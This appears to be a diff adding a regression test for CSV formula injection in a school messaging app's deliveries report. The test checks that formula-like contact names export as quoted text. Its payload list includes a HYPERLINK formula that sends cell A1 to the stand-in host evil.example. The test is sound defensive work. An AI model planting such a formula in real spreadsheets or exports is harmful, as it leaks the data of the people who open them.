@@ -173,3 +173,31 @@ def test_resend_to_failed_targets_only_failed_deliveries(client, engine):
     [resent] = [d for d in after.values() if d.address.startswith("bounce")]
     assert resent.status == "SENT" and resent.attempts == before[resent.id] + 1 and list(attempts) == [resent.id]
     assert all(d.attempts == before[d.id] for d in after.values() if d.id != resent.id)
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for your report")', "+1", "-2", "@SUM(A1)",
+            "\tx", "\rx"]
+
+
+def test_issue_13_9_csv_cells_never_run_as_spreadsheet_formulas(client, engine):
+    """Covers RPT-02 (issue 13 point 9): contacts named like spreadsheet formulas come back in the
+    deliveries CSV as text: each such cell starts with a single quote, as OWASP advises; the csv
+    module quotes what holds quotes, commas or line breaks, so the file reads back cell for cell."""
+    school = first_school_id(engine)
+    kids = [add_student(engine, school) for _ in FORMULAS]
+    for kid, name in zip(kids, FORMULAS):
+        add_contact(engine, kid, first_name=name, last_name="", email=email("formula"))
+    with session_scope(engine) as session:
+        message = create_message(session, viewer_for(session, "admin"), request("PRIMARY_CONTACTS", kids))
+        fan_out(session, message.id)
+        names = dict(session.execute(select(Delivery.id, Delivery.recipient_name).where(
+            Delivery.message_id == message.id)).all())
+    assert sorted(name.rstrip() for name in names.values()) == sorted(FORMULAS)
+    response = client.get(f"/reports/messages/{message.id}/deliveries.csv",
+                          headers={"Authorization": f"Bearer {token_for(engine, 'admin')}"})
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
+    assert {int(row["delivery_id"]): row["recipient_name"] for row in rows} == {
+        delivery_id: "'" + name for delivery_id, name in names.items()}
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
